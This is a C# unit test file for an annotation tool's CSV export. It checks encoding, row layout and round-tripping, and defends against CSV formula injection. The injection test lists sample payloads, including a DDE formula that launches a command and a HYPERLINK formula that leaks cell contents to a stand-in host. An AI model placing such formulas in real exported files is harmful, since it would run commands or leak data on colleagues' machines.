using System.Text;
using AllianceReader.Annotations;
using AllianceReader.Exchange;
using CsvHelper;

namespace AllianceReader.Core.Tests.Exchange;

public class CsvExportTests
{
    private static readonly CsvReaderOptions Rfc4180 = new() { Separator = ',' };

    [Fact]
    public async Task Excel_sees_at_the_first_bytes_that_it_is_UTF8_and_each_row_ends_as_RFC_4180_says()
    {
        var bytes = await Snapshots.Write("csv", Snapshots.Of(Snapshots.On("abare00003", "Allies", "Allies")));
        var text = Encoding.UTF8.GetString(bytes);

        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        Assert.Equal(2, text.Count(c => c == '\r'));
        Assert.EndsWith("\"\r\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task There_is_a_row_for_each_passage_and_theme_and_one_for_a_passage_without()
    {
        var rows = await Rows(Snapshots.OneOfEach());

        Assert.Equal(
            [
                ("awhole0001", "", "", "", "동맹"),
                ("aboth00002", "1", "24", "74", "Alliance politics / Burden-sharing"),
                ("aboth00002", "1", "24", "74", "Trust, fear & [doubt]"),
                ("abare00003", "2", "39", "45", ""),
                ("alost00004", "", "", "", ""),
            ],
            rows.Select(r => (r["id"], r["paragraph"], r["start"], r["end"], r["theme"])));
    }

    [Fact]
    public async Task A_row_says_all_there_is_to_know_of_its_passage()
    {
        var row = (await Rows(Snapshots.OneOfEach()))[1];

        Assert.Equal("동맹의 습관: \"habit\" # one", row["essay"]);
        Assert.Equal("Im Hwa; O'Neill, \"Kit\"", row["authors"]);
        Assert.Equal("The *Review*", row["publication"]);
        Assert.Equal("2025-04", row["date"]);
        Assert.Equal("🤝 한미동맹은 굳건하다.\n\nAllies that share costs share blame", row["quote"]);
        Assert.Equal("Who pays.", row["definition"]);
        Assert.Equal("An alliance is a habit. 🤝 한미동맹은 굳건하다.", row["context"]);
        Assert.Equal("in-place", row["status"]);
        Assert.Equal("2026-11-22T10:00:00Z", row["created"]);
        Assert.Equal("2026-11-22T10:05:00Z", row["modified"]);
        Assert.Equal("J. Kim", row["creator"]);
        Assert.EndsWith("#a-aboth00002", row["link"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Ids_quotes_themes_and_notes_come_back_equal()
    {
        var given = Snapshots.OneOfEach().Concat(Notes.Naughty.Select((note, i) => Snapshots.On($"anote{i:D5}", "Allies", "costs", ["burden-sharing"], note))).ToArray();

        var read = (await Rows(given)).GroupBy(r => r["id"]).Select(g => new Kept(g.Key, g.First()["quote"], string.Join(' ', g.Select(r => r["theme-slug"])), g.First()["note"]));

        Assert.Equal(given.Select(Kept.Of), read);
    }

    // CSV injection (OWASP): a note that a spreadsheet would run when a colleague opens the file.
    [Theory]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://example.org?leak=\"&A1,\"click\")")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("'=1+1")]
    [InlineData("''@x")]
    public void A_cell_that_begins_like_a_formula_gets_an_apostrophe_that_comes_off_again(string text)
    {
        var cell = CsvCell.Of(text);

        Assert.Equal('\'', cell[0]);
        Assert.Equal(text.Length + 1, cell.Length);
        Assert.Equal(text, CsvCell.Read(cell));
    }

    [Theory]
    [InlineData("")]
    [InlineData("plain")]
    [InlineData("'tis the season")]
    [InlineData("'")]
    [InlineData("a=b")]
    public void Other_cells_stay_as_they_are(string text)
    {
        Assert.Equal(text, CsvCell.Of(text));
        Assert.Equal(text, CsvCell.Read(text));
    }

    [Fact]
    public async Task No_cell_of_the_file_begins_like_a_formula_whoever_wrote_it()
    {
        var article = Snapshots.Essay with { Title = "=1+1", Publication = "+2", Authors = [new("@author", null, null)] };
        var annotation = Snapshots.OnWholeEssay("aformula01", "=3", "burden-sharing") with { Creator = "-me" };
        var snapshot = Snapshots.Of((IReadOnlyList<AnnotatedArticle>)[new(article, [annotation])]) with
        {
            Themes = [Snapshots.Codebook[1] with { Name = "=theme", Definition = "@definition", Parent = null }],
        };

        using var csv = CsvReader.Create(await Snapshots.Write("csv", snapshot), Rfc4180);
        Assert.True(await csv.ReadAsync());

        Assert.DoesNotContain(Enumerable.Range(0, csv.FieldCount).Select(csv.GetString), cell => cell.Length > 0 && "=+-@".Contains(cell[0], StringComparison.Ordinal));
    }

    private static async Task<List<Dictionary<string, string>>> Rows(params Annotation[] annotations)
    {
        using var csv = CsvReader.Create(await Snapshots.Write("csv", Snapshots.Of(annotations)), Rfc4180);
        List<Dictionary<string, string>> rows = [];
        while (await csv.ReadAsync())
        {
            rows.Add(csv.Headers.Select((name, i) => (name, CsvCell.Read(csv.GetString(i)))).ToDictionary());
        }
        return rows;
    }
}
